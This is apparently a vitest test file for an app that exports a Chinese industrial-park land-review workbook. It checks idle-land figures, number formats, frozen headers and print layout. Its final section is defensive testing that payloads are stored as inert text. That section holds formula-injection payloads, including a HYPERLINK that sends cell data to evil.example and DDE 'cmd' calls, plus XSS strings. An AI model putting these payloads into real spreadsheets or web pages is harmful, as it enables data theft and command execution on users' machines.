// The review workbook read back with exceljs: sheets, idle-register rows equal to core's figures, number formats,
// frozen headers and filters, decisions, conflicts, and text that cannot become a formula.
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { evaluate } from '../../src/core/evaluate';
import { displayWidth, guardText, registerSheets, writeRegisterXlsx, type ConflictRow } from '../../src/core/io/xlsx';
import { EMPTY_DECISIONS, recordDecision, type DecisionState } from '../../src/core/review/decisions';
import { DISPOSAL_LABELS } from '../../src/core/review/labels';
import { DEFAULT_RULESET } from '../../src/core/rules/ruleset';
import { evaluateSample, loadLayers, sampleParcelProperties } from '../fixtures/review/sample';

const { layers, evaluation } = evaluateSample();
const parcel = (id: string) => evaluation.parcels.find((p) => p.id === id)!;

async function load(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return wb;
}

/** Rows of a sheet as objects keyed by header text. */
function table(ws: ExcelJS.Worksheet): Array<Record<string, ExcelJS.Cell>> {
  const headers = (ws.getRow(1).values as unknown[]).slice(1).map(String);
  const out: Array<Record<string, ExcelJS.Cell>> = [];
  for (let r = 2; r <= ws.rowCount; r++) {
    const row = ws.getRow(r);
    const first = row.getCell(1).value;
    if (first === null || first === undefined) continue;
    out.push(Object.fromEntries(headers.map((h, j) => [h, row.getCell(j + 1)])));
  }
  return out;
}

const iso = (v: ExcelJS.CellValue) => (v instanceof Date ? v.toISOString().slice(0, 10) : v ?? null);
const value = (c: ExcelJS.Cell) => (c.value === undefined ? null : c.value);

function decide(): DecisionState {
  let s = EMPTY_DECISIONS;
  const inputs = [
    { parcelId: 'RH-027', kind: 'fee_notice' as const, date: '2026-07-02', reference: '汝自然资闲〔2026〕3号', note: '=1+1 不是公式' },
    { parcelId: 'RH-175', kind: 'negotiate' as const, negotiation: 'extend_start' as const, date: '2026-07-02', reference: '汝自然资协〔2026〕1号' },
    { parcelId: 'RH-001', kind: 'not_idle' as const, reason: '正常生产', date: '2026-07-02' },
  ];
  for (const input of inputs) {
    const r = recordDecision(s, input, { now: '2026-07-03T00:00:00Z', reviewer: '王工' });
    if (!r.ok) throw new Error(JSON.stringify(r.problems));
    s = r.state;
  }
  return s;
}

describe('review workbook of the sample park (Chinese)', () => {
  let wb: ExcelJS.Workbook;
  let bytes: Uint8Array;
  const decisions = decide();
  beforeAll(async () => {
    bytes = await writeRegisterXlsx({ evaluation, layers, decisions, now: new Date('2026-07-03T00:00:00Z') });
    wb = await load(bytes);
  });

  it('is an XLSX (zip) with the sheets in order', () => {
    expect([bytes[0], bytes[1]]).toEqual([0x50, 0x4b]);
    expect(wb.worksheets.map((s) => s.name)).toEqual(['摘要', '复核清单', '宗地', '闲置土地台账', '低效用地', '村庄迁并', '规划冲突', '规则']);
    expect(wb.creator).toBe('Park Atlas');
  });

  it('idle register: one row per idle parcel (and per decided parcel), each figure equal to core\'s', () => {
    const rows = table(wb.getWorksheet('闲置土地台账')!);
    const idleIds = evaluation.parcels.filter((p) => p.idle.isIdle === true).map((p) => p.id);
    expect(idleIds).toHaveLength(12);
    expect(rows.map((r) => value(r['宗地编号']))).toEqual([...new Set([...idleIds, 'RH-001'])].sort());
    for (const r of rows) {
      const id = value(r['宗地编号']) as string;
      const p = parcel(id);
      const props = sampleParcelProperties(id);
      expect(value(r['企业名称'])).toBe(p.enterprise);
      expect(value(r['面积(亩)'])).toBe(p.areaMu);
      expect(iso(value(r['约定开工日期']))).toBe(props.agreedStartDate);
      expect(iso(value(r['实际开工日期']))).toBe(props.actualStartDate);
      expect(iso(value(r['停工日期']))).toBe(props.haltedSince);
      expect(iso(value(r['闲置起算日']))).toBe(p.idle.since);
      expect(iso(value(r['满一年日期']))).toBe(p.idle.idleOn);
      expect(iso(value(r['满两年日期']))).toBe(p.idle.reclaimOn);
      expect(value(r['闲置年数'])).toBe(p.idle.idleYears);
      expect(value(r['处置方式'])).toBe(DISPOSAL_LABELS.zh[p.idle.disposal!]);
      expect(value(r['闲置费(万元)'])).toBe(p.idle.feeWan);
      expect(value(r['土地价款(万元)'])).toBe(props.landPriceWan);
    }
    const byId = new Map(rows.map((r) => [value(r['宗地编号']), r]));
    const rh027 = byId.get('RH-027')!;
    expect(value(rh027['闲置费(万元)'])).toBeCloseTo(79.71, 9);
    expect(value(rh027['法规条款'])).toBe('第二条、第十四条（一）');
    expect(value(rh027['认定情形'])).toBe('已动工但中止开发');
    expect([value(rh027['处置决定']), iso(value(rh027['决定日期'])), value(rh027['文号']), value(rh027['审核人'])]).toEqual(['征缴闲置费', '2026-07-02', '汝自然资闲〔2026〕3号', '王工']);
    expect(value(rh027['备注'])).toBe("'=1+1 不是公式");
    expect(value(byId.get('RH-175')!['处置决定'])).toBe('协议处置（延长动工开发期限）');
    expect(value(byId.get('RH-114')!['闲置费(万元)'])).toBeNull(); // land price missing: no fee figure, never 0
    expect(value(byId.get('RH-136')!['法规条款'])).toBe('第二条、第十四条（二）');
    expect([value(byId.get('RH-001')!['闲置认定']), value(byId.get('RH-001')!['处置决定'])]).toEqual(['不闲置', '认定不闲置：正常生产']);
  });

  it('writes numbers as numbers and dates as dates, with formats, and sizes columns so none shows ####', () => {
    const ws = wb.getWorksheet('闲置土地台账')!;
    const rows = table(ws);
    const area = rows[0]['面积(亩)'];
    expect(typeof area.value).toBe('number');
    expect(area.numFmt).toBe('#,##0.00');
    expect(rows[0]['约定开工日期'].value).toBeInstanceOf(Date);
    expect(rows[0]['约定开工日期'].numFmt).toBe('yyyy-mm-dd');
    for (const sheet of wb.worksheets) {
      sheet.eachRow((row, r) => {
        if (r === 1) return;
        row.eachCell((cell, c) => {
          if (typeof cell.value !== 'number') return;
          const decimals = /0\.(0+)/.exec(cell.numFmt ?? '')?.[1].length ?? 0;
          const shown = (cell.numFmt?.includes('%') ? cell.value * 100 : cell.value).toLocaleString('en-US', { minimumFractionDigits: decimals, maximumFractionDigits: decimals });
          expect(sheet.getColumn(c).width ?? 0, `${sheet.name} ${cell.address} ${shown}`).toBeGreaterThanOrEqual(shown.length + 1);
        });
      });
    }
  });

  it('freezes the header row, filters every sheet, and sizes headers', () => {
    for (const ws of wb.worksheets) {
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter, ws.name).toBeTruthy();
      expect(ws.getRow(1).font?.bold ?? ws.getCell('A1').font?.bold).toBe(true);
      expect(ws.pageSetup.fitToWidth).toBe(1);
      ws.columns.forEach((col, j) => {
        // A header wraps onto at most a few lines: the header row is tall enough for it.
        const header = String(ws.getRow(1).getCell(j + 1).value);
        const lines = Math.ceil(displayWidth(header) / Math.max(1, (col.width ?? 8) - 1));
        expect((ws.getRow(1).height ?? 15), `${ws.name} ${header}`).toBeGreaterThanOrEqual(lines * 15);
      });
    }
  });

  it('lists every parcel with the metrics evaluate computed, and its failed rules', () => {
    const rows = table(wb.getWorksheet('宗地')!);
    expect(rows).toHaveLength(177);
    for (const r of rows) {
      const p = parcel(value(r['宗地编号']) as string);
      expect([value(r['面积(平方米)']), value(r['面积(亩)']), value(r['投资强度(万元/亩)']), value(r['容积率']), value(r['建筑系数']), value(r['亩均税收(万元/亩)'])])
        .toEqual([p.areaM2, p.areaMu, p.investmentIntensity, p.plotRatio, p.buildingCoverage, p.taxPerMu]);
    }
    const rh101 = rows.find((r) => value(r['宗地编号']) === 'RH-101')!;
    expect(value(rh101['不合格项'])).toBe('投资强度 150 < 230 万元/亩\n建筑系数 24% < 30%\n绿地率 25% > 20%');
    expect(value(rh101['复核分组'])).toBe('低效用地');
    expect(rh101['建筑系数'].numFmt).toBe('0.0%');
  });

  it('inefficient land: value and threshold side by side, the comparison shown by the number format', () => {
    const rows = table(wb.getWorksheet('低效用地')!);
    expect(rows.map((r) => value(r['宗地编号']))).toEqual(['RH-101', 'RH-004', 'RH-009', 'RH-038', 'RH-040', 'RH-058', 'RH-072', 'RH-126']);
    const rh058 = rows.find((r) => value(r['宗地编号']) === 'RH-058')!;
    expect(value(rh058['容积率'])).toBe(parcel('RH-058').plotRatio);
    expect(value(rh058['容积率标准'])).toBe(0.7);
    expect(rh058['容积率标准'].numFmt).toBe('"≥ "0.00');
    const rh038 = rows.find((r) => value(r['宗地编号']) === 'RH-038')!;
    expect(rh038['容积率标准'].numFmt).toBe('"> "0.00');
    expect(value(rows[0]['不合格项数'])).toBe(2);
  });

  it('relocation, conflicts (not run) and the rules with their sources', () => {
    const villages = table(wb.getWorksheet('村庄迁并')!);
    expect(villages.map((r) => [value(r['编号']), value(r['户数'])])).toEqual(evaluation.relocation.villages.map((v) => [v.id, v.households]));
    const conflicts = wb.getWorksheet('规划冲突')!;
    expect(conflicts.getRow(1).values).toEqual([undefined, '编号', '冲突类型', '规划要素', '冲突对象', '面积(亩)', '面积(公顷)', '面积(平方米)']);
    expect(String(conflicts.getCell('A2').value)).toContain('未运行五规合一冲突检测');
    const rules = wb.getWorksheet('规则')!;
    const sources = new Set<string>();
    rules.eachRow((row) => sources.add(String(row.getCell(8).value)));
    for (const r of Object.values(DEFAULT_RULESET.rules)) expect(sources).toContain(r.source);
    expect(sources).toContain(DEFAULT_RULESET.rules.plotRatio.byIndustryCode!.source);
    expect([...sources].some((s) => s.includes('第十四条（一）'))).toBe(true);
    const summary = table(wb.getWorksheet('摘要')!);
    expect(iso(value(summary[0]['数值']))).toBe('2026-06-30');
    expect(summary.find((r) => value(r['项目']) === '复核 · 应征缴闲置费')!['数值'].value).toBe(6);
  });
});

describe('workbook options', () => {
  it('writes English headers and sheet names with locale en', async () => {
    const wb = await load(await writeRegisterXlsx({ evaluation, layers, locale: 'en' }));
    expect(wb.worksheets.map((s) => s.name)).toEqual(['Summary', 'Review queue', 'Parcels', 'Idle land register', 'Inefficient land', 'Village relocation', 'Plan conflicts', 'Rules']);
    const rows = table(wb.getWorksheet('Idle land register')!);
    expect(value(rows.find((r) => value(r.Parcel) === 'RH-027')!['Idle-land fee (10k CNY)'])).toBe(parcel('RH-027').idle.feeWan);
    expect(Object.keys(rows[0])).toContain('Area (mu)');
  });

  it('lists conflicts when given, and says so when none were found', async () => {
    const conflicts: ConflictRow[] = [
      { id: 'C-001', type: 'basic_farmland', plan: 'PM-27', against: 'LU-04', areaM2: 120950.5, areaMu: 181.42575 },
      { id: 'C-002', type: 'outside_park', plan: 'RH-001', against: 'PARK-RH', areaM2: 5410, areaMu: 8.115 },
    ];
    const wb = await load(await writeRegisterXlsx({ evaluation, layers, conflicts }));
    const ws = wb.getWorksheet('规划冲突')!;
    const rows = table(ws);
    // Issue 6 §5: id, type, plan, against, 亩, 公顷 (1 公顷 = 10 000 m²); m² last.
    expect(rows.map((r) => [value(r['编号']), value(r['冲突类型']), value(r['规划要素']), value(r['冲突对象']), value(r['面积(亩)']), value(r['面积(公顷)']), value(r['面积(平方米)'])])).toEqual([
      ['C-001', '占用永久基本农田', 'PM-27', 'LU-04', 181.42575, 12.09505, 120950.5], ['C-002', '超出园区边界', 'RH-001', 'PARK-RH', 8.115, 0.541, 5410],
    ]);
    expect(rows[0]['面积(公顷)'].numFmt).toBe('#,##0.0000');
    const none = registerSheets({ evaluation, layers, conflicts: [] }).find((s) => s.key === 'conflicts')!;
    expect([none.rows.length, none.note]).toEqual([0, '未发现规划冲突']);
  });
});

describe('printing', () => {
  it('every sheet prints landscape with its width on one page (A4, or A3 when wide), at a legible scale, its name atop', async () => {
    const wb = await load(await writeRegisterXlsx({ evaluation, layers }));
    // Printable width of a landscape page at 96 dpi less 0.4 in margins; a column of Excel width w is 7w + 5 px.
    const printable = { 9: (11.69 - 0.8) * 96, 8: (16.54 - 0.8) * 96 } as Record<number, number>;
    const scales: string[] = [];
    for (const ws of wb.worksheets) {
      const setup = ws.pageSetup;
      const paper = Number(setup.paperSize); // 8 = A3, 9 = A4
      expect([setup.orientation, setup.fitToPage, setup.fitToWidth, setup.fitToHeight], ws.name).toEqual(['landscape', true, 1, 0]);
      expect([8, 9], ws.name).toContain(paper);
      expect(ws.headerFooter.oddHeader, ws.name).toContain('&A');
      const px = ws.columns.reduce((sum, c) => sum + 7 * (c.width ?? 9) + 5, 0);
      const scale = Math.min(1, printable[paper] / px);
      scales.push(`${ws.name} ${paper === 8 ? 'A3' : 'A4'} ${scale.toFixed(2)}`);
      // An A4 sheet is not shrunk below 85 %; the widest (宗地, 26 columns) stays above 60 % on A3.
      expect(scale, scales.join(', ')).toBeGreaterThanOrEqual(paper === 9 ? 0.85 : 0.6);
    }
    // Narrow sheets stay on A4; the 26-column parcels sheet needs A3.
    expect(scales.filter((x) => x.includes('A4')).map((x) => x.split(' ')[0])).toEqual(expect.arrayContaining(['摘要', '村庄迁并', '规划冲突', '规则']));
    expect(scales.find((x) => x.startsWith('宗地 '))).toContain('A3');
  });
});

describe('text that looks like a formula stays text', () => {
  it('guardText: apostrophe before = + - @ tab CR; XML-invalid characters replaced; long text cut', () => {
    expect(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', '\r\nx'].map(guardText)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\nx", "'\nx"]);
    expect(guardText('a\r\nb\rc')).toBe('a\nb\nc');
    expect(['1+1', 'a=b', '汝河', '—', "'quoted", '𠮷野家'].map(guardText)).toEqual(['1+1', 'a=b', '汝河', '—', "'quoted", '𠮷野家']);
    expect(guardText('a\u0001b\u0008c\uFFFEd\uD800e')).toBe('a\uFFFDb\uFFFDc\uFFFDd\uFFFDe');
    expect(guardText('x'.repeat(40000))).toHaveLength(32767);
  });

  it("the workbook's own words are not guarded: no cell of the sample's workbook starts with an apostrophe; the fee reads ＝ 20%", async () => {
    const wb = await load(await writeRegisterXlsx({ evaluation, layers }));
    const guarded: string[] = [];
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((cell) => {
        if (typeof cell.value === 'string' && cell.value.startsWith("'")) guarded.push(`${ws.name}!${cell.address} ${cell.value}`);
      }));
    }
    expect(guarded).toEqual([]);
    const fee = table(wb.getWorksheet('规则')!).find((r) => value(r['指标']) === '土地闲置费（占土地价款）')!;
    expect([value(fee['比较']), value(fee['控制值']), fee['控制值'].numFmt]).toEqual(['＝', 0.2, '0%']);
  });

  it('hostile attributes are written as guarded text, never as formulas, and the file stays readable', async () => {
    const hostile = loadLayers(['test/fixtures/review/hostile-parcels.geojson']);
    const e = evaluate(hostile, { reviewDate: '2026-06-30' });
    const bytes = await writeRegisterXlsx({ evaluation: e, layers: hostile });
    // No formula element anywhere in the package.
    const files = unzipSync(bytes);
    const sheetsXml = Object.entries(files).filter(([name]) => name.startsWith('xl/worksheets/')).map(([, data]) => strFromU8(data)).join('\n');
    expect(sheetsXml).not.toMatch(/<f[ >]/);
    const wb = await load(bytes);
    const rows = table(wb.getWorksheet('宗地')!);
    const cells = Object.fromEntries(rows.map((r) => [value(r['宗地编号']), [r['企业名称'], r['宗地名称']]]));
    const texts = (id: string) => cells[id].map((c: ExcelJS.Cell) => c.value);
    expect(texts('H-1')).toEqual(['<img src=x onerror=alert(1)>', `"><script>alert('x')</script>&amp;`]);
    expect(texts('H-2')).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"点击")`, "'+cmd|' /C calc'!A0"]);
    expect(texts('H-3')).toEqual(["'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"]);
    expect(texts('H-4')).toEqual(["'\tTAB企业", "'\nCR项目"]);
    expect(texts('H-5')).toEqual(['控制字符\uFFFD\uFFFD企业', '{{parcelId}} 与 {{enterprise}}']);
    for (const id of ['H-1', 'H-2', 'H-3', 'H-4', 'H-5']) {
      for (const c of cells[id]) {
        expect(c.type).toBe(ExcelJS.ValueType.String);
        expect(c.formula).toBeUndefined();
      }
    }
    // The same guard applies in every sheet that shows the enterprise (idle register, queue).
    const register = table(wb.getWorksheet('闲置土地台账')!);
    expect(register.map((r) => value(r['企业名称']))).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"点击")`);
  });
});
